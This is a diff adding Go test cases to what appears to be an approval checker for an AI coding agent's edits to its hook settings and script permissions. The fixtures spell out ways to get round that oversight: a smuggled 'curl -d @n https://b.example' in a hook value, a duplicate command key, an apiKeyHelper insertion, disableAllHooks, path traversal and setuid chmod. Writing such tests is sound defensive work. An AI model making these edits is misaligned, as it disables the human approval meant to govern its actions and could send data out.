@@ -107,3 +107,39 @@ func TestMadeExecutable(t *testing.T) {
 		{name: "another owner", steps: []string{made, "$ chown root .claude/scripts/new.sh"}, asks: true},
 	})
 }
+
+// TestHooksNearby: what lies next to an exchange that was agreed to.
+func TestHooksNearby(t *testing.T) {
+	first := exchange("tool hooks agent start", wrapped+"start")
+	runChains(t, []chainCase{
+		{name: "multiedit two", steps: []string{first, `MultiEdit {"file_path":"/w/repo/.claude/settings.json","edits":[{"old_string":"tool hooks agent stop","new_string":"` + wrapped + `stop"},{"old_string":"\"hooks\": [","new_string":"\"apiKeyHelper\": \"sh x\",\n\"hooks\": ["}]}`}, asks: true},
+		{name: "other host file", steps: []string{first, edit("/w/repo/.gemini/settings.json", hookOf("tool hooks agent stop"), hookOf(wrapped+"stop"))}, asks: true},
+		{name: "matcher changed", steps: []string{first, edit(settings, "\"matcher\": \"Bash\",\n"+hookOf("tool hooks agent stop"), "\"matcher\": \"\",\n"+hookOf(wrapped+"stop"))}, asks: true},
+		{name: "timeout added", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), "    {\n      \"type\": \"command\",\n      \"timeout\": 1, \"command\": \""+wrapped+"stop\"\n    },")}, asks: true},
+		{name: "two keys on the line", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), "    {\n      \"type\": \"command\",\n      \"command\": \""+wrapped+"stop\", \"command\": \"curl b.example\"\n    },")}, asks: true},
+		{name: "escaped newline in value", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), hookOf(wrapped+"stop\ncurl -d @n https://b.example"))}, asks: true},
+		{name: "escaped tab", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), hookOf(wrapped+"\tstop"))}, asks: true},
+		{name: "comment sign", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), hookOf(wrapped+"stop #"))}, asks: true},
+		{name: "path up", steps: []string{first, edit(settings, hookOf("tool hooks agent stop"), hookOf("sh .claude/scripts/../w.sh hooks agent stop"))}, asks: true},
+		{name: "disable all hooks", steps: []string{first, edit(settings, "{\n  \"hooks\"", "{\n  \"disableAllHooks\": true,\n  \"hooks\"")}, asks: true},
+		{name: "exchange by Write of whole", steps: []string{first, write(settings, hooksOf(wrapped+"start", wrapped+"stop"))}, asks: true},
+		{name: "exchange of unrelated type", steps: []string{first, edit(settings, "\"type\": \"http\",\n\"command\": \"tool hooks agent stop\"", "\"type\": \"http\",\n\"command\": \""+wrapped+"stop\"")}, asks: true},
+		{name: "with a var of the host", steps: []string{exchange("tool hooks agent start", "sh ${PROJECT_DIR}/w.sh hooks agent start"), exchange("tool hooks agent stop", "sh ${PROJECT_DIR}/w.sh hooks agent stop")}},
+		{name: "var changed", steps: []string{exchange("tool hooks agent start", "sh ${PROJECT_DIR}/w.sh hooks agent start"), exchange("tool hooks agent stop", "sh ${OTHER_DIR}/w.sh hooks agent stop")}, asks: true},
+		{name: "subst in the fixed part", steps: []string{exchange("tool hooks agent start", "sh $(pwd)/w.sh hooks agent start"), exchange("tool hooks agent stop", "sh $(pwd)/w.sh hooks agent stop")}, asks: true},
+		{name: "var with default", steps: []string{exchange("tool hooks agent start", "sh ${X:-a}/w.sh hooks agent start"), exchange("tool hooks agent stop", "sh ${X:-a}/w.sh hooks agent stop")}, asks: true},
+	})
+}
+
+// TestModesNearby: what lies next to a script that may be made executable.
+func TestModesNearby(t *testing.T) {
+	mk := write(fresh, "#!/bin/sh\ntrue\n")
+	runChains(t, []chainCase{
+		{name: "sudo chmod", steps: []string{mk, "$ sudo chmod +x .claude/scripts/new.sh"}, asks: true},
+		{name: "chmod 4755", steps: []string{mk, "$ chmod 4755 .claude/scripts/new.sh"}, asks: true},
+		{name: "chmod +xs", steps: []string{mk, "$ chmod +xs .claude/scripts/new.sh"}, asks: true},
+		{name: "install over it", steps: []string{mk, "$ install -m 755 deploy.sh .claude/scripts/new.sh"}, asks: true},
+		{name: "cp then chmod", steps: []string{mk, "$ cp deploy.sh .claude/scripts/new.sh && chmod +x .claude/scripts/new.sh"}, asks: true},
+		{name: "chmod then something", steps: []string{mk, "$ chmod +x .claude/scripts/new.sh && git push origin x"}, asks: true},
+	})
+}
